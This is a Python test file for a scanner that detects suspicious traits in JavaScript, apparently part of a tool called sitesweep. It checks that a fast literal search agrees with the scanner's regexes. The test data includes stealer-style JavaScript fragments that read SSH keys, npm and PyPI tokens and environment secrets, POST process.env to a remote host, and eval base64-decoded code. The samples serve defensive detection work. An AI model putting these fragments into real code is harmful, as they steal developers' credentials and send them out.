"""The JavaScript traits found by literal search are exactly those the JS_TRAITS regexes find.

``js_traits`` answers each trait with an :class:`AlternationSearch` derived from the trait's
regex (literals tested with ``in``, the other alternatives run only where their literal prefix
occurs). These tests run the regexes themselves beside it, on the real JavaScript the tests
carry, on windows cut around every place a literal occurs in it, and on texts hypothesis builds
from the literals, their fragments and the characters the ``\\b`` and lookbehind tests look at.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Iterator, List, Tuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitesweep.metadata.alternation import AlternationSearch, alternatives
from sitesweep.metadata.importtime import JS_TRAITS, READS_CREDENTIALS, js_traits

TESTS = Path(__file__).resolve().parents[1]
SEARCHES = [(name, regex, AlternationSearch.of(regex)) for name, regex in JS_TRAITS]

# Stealer shapes (Node, Bun, Deno) and near misses for each structured alternative.
SHAPES = [
    b"const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');",
    b"fetch('http://x/c', {method: 'POST', body: JSON.stringify( process.env )});",
    b"const t = process.env['GITHUB_TOKEN'] || process.env. NPM_TOKEN;",
    b"const s = process.env[ `AWS_SECRET`] || process.env[\n'PYPI_TOKEN'] || process.env.HOME;",
    b"for (const [k, v] of Object.entries(\n process.env)) send(k, v); Object.keys(process.envx);",
    b"const all = {...process.env}; const b = {...process.environment};",
    b"const k = await Bun.file(Bun.env.HOME + '/.npmrc').text(); Bun.spawn(['sh']);",
    b"Deno.env.get('HOME'); Deno.readTextFile('.pypirc'); Deno.environment;",
    b"eval(atob('ZXZhbA==')); new Function(Buffer.from(s, 'base64').toString())();",
    b"x.eval(1); xatob(2); a.fetch(3); homedir(); $homedir(); fs/promises; xfs/promises;",
    b"cat ./.env; path.join(d, '.env'); a.env; $.env; ).env; ].env; ?.env; .environment; .env_",
    b"Buffer.from(" + b"x" * 199 + b"base64" + b" Buffer.from(" + b"x" * 201 + b"base64",
    b"Buffer.from(a) + 'base64'; https.request(o); discordapp.com/api/webhooks; .post(url",
]


def _reference(data: bytes) -> Tuple[str, ...]:
    traits = [name for name, regex in JS_TRAITS if regex.search(data)]
    if "names credentials" in traits and "reads the host" in traits:
        traits.insert(0, READS_CREDENTIALS)
    return tuple(traits)


def _assert_same(data: bytes) -> None:
    for name, regex, search in SEARCHES:
        assert search.search(data) == (regex.search(data) is not None), (name, data[:200])
    assert js_traits(data) == _reference(data)


def _real_js() -> List[Path]:
    found = [p for ext in ("*.js", "*.mjs", "*.cjs") for p in TESTS.rglob(ext)]
    assert len(found) >= 5, found  # the clean corpus's web UI chunks, yarn, urllib3's worker
    return sorted(found)


def _needles() -> Iterator[bytes]:
    for _, _, search in SEARCHES:
        yield from search.literals
        for prefixes, _ in search.anchored:
            yield from prefixes


def _windows(data: bytes) -> Iterator[bytes]:
    """Cuts of the text that start or end right at, before, inside and after each literal."""
    for needle in set(_needles()):
        at = data.find(needle)
        while at >= 0:
            end = at + len(needle)
            for lo in (at - 1, at, at + 1):
                for hi in (end - 1, end, end + 1, end + 240):
                    if 0 <= lo < hi:
                        yield data[lo:hi]
            at = data.find(needle, at + 1)


def test_every_alternative_of_every_trait_is_searched_by_literal() -> None:
    # None falls back to its own regex over the whole text (that would be slow, not wrong).
    for name, regex, search in SEARCHES:
        assert search.searched == (), name
        parts = len(search.anchored) + len(search.literals)
        assert parts >= len(alternatives(regex.pattern)), name


def test_match_at_a_position_sees_the_bytes_before_it() -> None:
    # What the anchored alternatives rely on: match(data, i) is search's own test at i.
    assert re.compile(rb"(?<![\w$])\.env\b").match(b"$.env", 1) is None
    assert re.compile(rb"(?<![\w$])\.env\b").match(b" .env", 1) is not None
    assert re.compile(rb"\bfetch\(").match(b"afetch(", 1) is None
    assert re.compile(rb"\bfetch\(").match(b".fetch(", 1) is not None


@pytest.mark.parametrize("path", _real_js(), ids=lambda p: p.name)
def test_real_javascript_and_its_cuts(path: Path) -> None:
    data = path.read_bytes()
    _assert_same(data)
    for cut in _windows(data):
        _assert_same(cut)


@pytest.mark.parametrize("shape", SHAPES)
def test_stealer_shapes_and_near_misses(shape: bytes) -> None:
    _assert_same(shape)
    for cut in _windows(shape):
        _assert_same(cut)


def _fragments() -> List[bytes]:
    out = set()
    for needle in _needles():
        out.add(needle)
        for k in range(1, len(needle)):
            out.update((needle[:k], needle[k:]))
    out.update(b"$ ) ] ? a Z _ 0 . ( / ' \" ` [ \n \t".split(b" "))
    out.update([b" ", b"base64", b"GITHUB_TOKEN", b"process.env", b"\xff", b"x" * 200])
    return sorted(out)


FRAGMENTS = _fragments()


@settings(max_examples=400)
@given(st.lists(st.sampled_from(FRAGMENTS) | st.binary(max_size=3), max_size=24))
def test_texts_built_from_the_literals(parts: List[bytes]) -> None:
    _assert_same(b"".join(parts))


# The derivation on patterns outside JS_TRAITS: what it does not understand keeps its regex.
OTHER_PATTERNS = [
    rb"(?i)ab|cd",  # inline flags: whole pattern searched by its regex
    rb"ab|(?i:cd)",
    rb"(a)\1|zz",  # backreference
    rb"a?+a|q",  # possessive: {a, aa} would be wrong
    rb"x{}|y{2}|z{,2}w",  # '{}' is a literal to re
    rb"^ab|cd$|(?<=a)b",
    rb"[]a]|b\]|\x41c",
    rb"(?:ab|cd)?ef|(?:x|y)(?:z|w)\b|\bq(?:r|s)t+",
    rb"|never",  # an empty alternative matches everywhere
    rb"a.b|(?=c)cd|(?!e)f",
    rb"(?<!x)abab\b",  # a prefix that overlaps itself: every occurrence is tried
]
OTHER_ALPHABET = [b"a", b"b", b"c", b"d", b"e", b"f", b"x", b"y", b"z", b"w", b"q", b"r", b"s"]
OTHER_ALPHABET += [b"ab", b"t", b"]", b"A", b"{", b"}", b"2", b",", b" ", b"\n", b"{}", b"y{2}"]


@pytest.mark.parametrize("source", OTHER_PATTERNS)
@settings(max_examples=150)
@given(st.lists(st.sampled_from(OTHER_ALPHABET), max_size=12))
def test_other_patterns_agree_with_their_regex(source: bytes, parts: List[bytes]) -> None:
    regex = re.compile(source)
    data = b"".join(parts)
    assert AlternationSearch.of(regex).search(data) == (regex.search(data) is not None)


def test_flags_keep_the_regex() -> None:
    regex = re.compile(rb"abc|def", re.IGNORECASE)
    search = AlternationSearch.of(regex)
    assert search.searched == (regex,)
    assert search.search(b"xABCx")


@pytest.mark.parametrize(
    ("source", "data"),
    [
        (rb"(?<!x)abab\b", b"ababab "),  # the match is at the second, overlapping occurrence
        (rb"a?+a|q", b"a"),
        (rb"x{}", b"x{}"),
        (rb"|never", b""),
    ],
)
def test_chosen_texts(source: bytes, data: bytes) -> None:
    regex = re.compile(source)
    assert AlternationSearch.of(regex).search(data) == (regex.search(data) is not None)
